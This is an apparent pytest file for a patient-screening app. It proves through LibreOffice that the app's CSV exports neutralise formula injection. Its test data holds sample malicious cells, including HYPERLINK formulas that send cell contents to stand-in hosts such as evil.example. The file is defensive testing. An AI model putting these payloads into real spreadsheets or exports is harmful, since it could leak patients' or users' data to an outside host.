"""The CSV export opened by a real spreadsheet: LibreOffice Calc runs none of its cells.

test_export.py checks the bytes with Python's csv reader; this converts the same
exports with Debian's LibreOffice (`make test` installs libreoffice-calc) and reads the
result back with openpyxl, so what is proved is what a spreadsheet does with the file:
no formula in any cell, and every row as wide as the header. Without LibreOffice the
test skips on a developer's machine and fails under CI=true, where a missing
spreadsheet must not pass for a green run.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import re
import shutil
import subprocess
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from flask import Flask
from flask.testing import FlaskClient

from screener.submissions import export

from .conftest import SubmissionFactory
from .patient_walk import PatientWalk
from .test_export import MALICIOUS
from .test_export import download
from .test_export import parse

pytestmark = [pytest.mark.processes]

SOFFICE = Path("/usr/bin/soffice")
#: LibreOffice's CSV import options, in its order: comma-separated (44), fields quoted
#: with " (34), UTF-8 (76: a BOM is read as such, not as part of the first header),
#: import from line 1 (the header is row 1), every column "standard" (no column forced
#: to text), English (United States) (1033: "," separates a function's arguments), and
#: quoted fields NOT imported as text, special numbers detected. The last two are
#: LibreOffice's defaults and the worst case: a quoted cell that reads as a formula
#: becomes one, as the control file below shows.
CSV_IMPORT = "CSV:44,34,76,1,,1033,false,true"
#: Starting LibreOffice takes most of the time; a hung one must not hang the run.
CONVERT_TIMEOUT = 180
#: More cells a patient could type, besides test_export.py's: line breaks of every
#: kind before a formula, a formula on the first line of several, and one whose
#: arguments use commas, as LibreOffice and Excel in English expect.
MORE_MALICIOUS = [
    "=1+1",
    "a\r\n@SUM(1)",
    "\n+1",
    '=HYPERLINK(CONCATENATE(CHAR(104),"ttp://e.example/?",B2),B2)',
    "=1+1\nsecond line",
    "two\n\t=1+1",
    "carriage\r\r-1",
]
CELLS = MALICIOUS + MORE_MALICIOUS
#: A patient's own submission, through the pages and the cells stored when submitting.
THROUGH_THE_PAGES = "x\n=1+1"


def require_soffice() -> Path:
    """LibreOffice's command; skip without it on a developer's machine, fail under
    CI=true."""
    found = shutil.which("soffice")
    if found:
        return Path(found)
    if SOFFICE.exists():
        return SOFFICE
    message = "soffice is missing: `make test` installs libreoffice-calc"
    if os.environ.get("CI") == "true":
        pytest.fail(message)
    pytest.skip(message)


def convert(soffice: Path, files: list[Path], tmp_path: Path) -> dict[str, Path]:
    """Convert CSV files to xlsx in one start of LibreOffice; the xlsx by file stem."""
    out = tmp_path / "xlsx"
    # A profile of its own: no settings from the machine, and no clash with another
    # LibreOffice running (it would otherwise hand the files to that one).
    profile = (tmp_path / "profile").as_uri()
    command = [
        str(soffice),
        "--headless",
        "--norestore",
        f"-env:UserInstallation={profile}",
        f"--infilter={CSV_IMPORT}",
        "--convert-to",
        "xlsx",
        "--outdir",
        str(out),
        *map(str, files),
    ]
    result = subprocess.run(
        command, capture_output=True, text=True, timeout=CONVERT_TIMEOUT, check=False
    )
    converted = {path.stem: out / f"{path.stem}.xlsx" for path in files}
    # soffice exits 0 even when a file failed to convert: look for every output.
    missing = [name for name, path in converted.items() if not path.exists()]
    assert result.returncode == 0, (result.stdout, result.stderr)
    assert missing == [], (result.stdout, result.stderr)
    return converted


def sheet_rows(path: Path) -> list[list[Any]]:
    """Every row of the workbook's one sheet, as openpyxl reads the cells' values."""
    workbook = openpyxl.load_workbook(path)
    assert len(workbook.worksheets) == 1
    return [[cell.value for cell in row] for row in workbook.worksheets[0].iter_rows()]


def formulas(path: Path) -> dict[str, Any]:
    """The cells of the workbook that hold a formula: the formula by cell."""
    workbook = openpyxl.load_workbook(path)
    return {
        f"{sheet.title}!{cell.coordinate}": cell.value
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    }


def line_feeds(text: str) -> str:
    """Text as LibreOffice keeps it: every line break in a cell, CR LF or a CR alone,
    becomes LF."""
    return re.sub(r"\r\n?", "\n", text)


def as_read(csv_cell: str, value: Any) -> bool:
    """Whether LibreOffice's cell is the CSV's cell, read as data: the same text, a
    number written as digits, a date written as a date, or nothing for an empty
    cell."""
    if value is None:
        return csv_cell == ""
    if isinstance(value, str):
        return value == line_feeds(csv_cell)
    if isinstance(value, dt.datetime):
        return csv_cell == value.date().isoformat()
    if isinstance(value, int | float) and not isinstance(value, bool):
        return re.fullmatch(r"-?\d+", csv_cell) is not None and int(csv_cell) == value
    return False


def control_file(path: Path) -> Path:
    """The malicious cells as a CSV with nothing neutralised (quoted where the csv
    module must), to show that LibreOffice, with these options, does run formulas."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(["cell"])
    writer.writerows([cell] for cell in CELLS)
    path.write_bytes(b"\xef\xbb\xbf" + buffer.getvalue().encode())
    return path


def test_libreoffice_runs_no_formula_from_either_export(
    app: Flask,
    staff_client: FlaskClient,
    make_submission: SubmissionFactory,
    tmp_path: Path,
) -> None:
    soffice = require_soffice()
    for cell, other in zip(CELLS, reversed(CELLS), strict=True):
        answers = {
            "safety_now": ["none"],
            "anything_else": cell,
            "treatment_notes": other,
            "pain_severity": -3,  # a number must stay a number, sign and all
        }
        make_submission(answers=answers)
    q = app.extensions["screener.questionnaire"]
    PatientWalk(app.test_client(), q).complete({"anything_else": THROUGH_THE_PAGES})
    submissions = len(CELLS) + 1

    exports = {
        "codes": download(staff_client),
        "labels": download(staff_client, labels="1"),
    }
    files = []
    for name, body in exports.items():
        assert body.startswith(b"\xef\xbb\xbf")  # the BOM LibreOffice must not keep
        (tmp_path / f"{name}.csv").write_bytes(body)
        files.append(tmp_path / f"{name}.csv")
    files.append(control_file(tmp_path / "control.csv"))
    converted = convert(soffice, files, tmp_path)

    # The control: the same cells left as typed do become formulas, so a pass below
    # is LibreOffice reading the export as text, not LibreOffice running no formulas.
    control = set(formulas(converted["control"]).values())
    assert {
        "=1+1",
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        '=HYPERLINK(CONCATENATE(CHAR(104),"ttp://e.example/?",B2),B2)',
    } <= control

    for name, body in exports.items():
        assert formulas(converted[name]) == {}, name
        expected = parse(body)
        header = expected[0]
        rows = sheet_rows(converted[name])
        assert rows[0] == header, name  # the header is row 1, with no BOM in it
        assert len(rows) == 1 + submissions, name  # no line break started a row
        assert {len(row) for row in expected} == {len(header)}, name
        for number, (row, csv_row) in enumerate(zip(rows, expected, strict=True)):
            # openpyxl pads every row to the sheet's widest: this says no row is wider
            # than the header, and the cell-by-cell comparison that none is shorter or
            # shifted.
            assert len(row) == len(header), (name, number)
            mismatched = [
                (column, csv_cell, value)
                for column, csv_cell, value in zip(header, csv_row, row, strict=True)
                if not as_read(csv_cell, value)
            ]
            assert mismatched == [], (name, number)
            for value in row:
                if isinstance(value, str):
                    for line in value.split("\n"):
                        assert not line.startswith(export.FORMULA_STARTS), (name, value)
        # Each malicious cell reached the sheet as text, the export's apostrophe kept
        # as a character of it (a CSV has no way to mark a cell as text but that).
        column = header.index("anything_else")
        assert sorted(row[column] for row in rows[1:]) == sorted(
            line_feeds(str(export.neutralise(cell)))
            for cell in [*CELLS, THROUGH_THE_PAGES]
        ), name
        assert "'=1+1" in [row[column] for row in rows[1:]], name
        severity = [row[header.index("pain_severity")] for row in rows[1:]]
        assert severity.count(-3) == len(CELLS), name
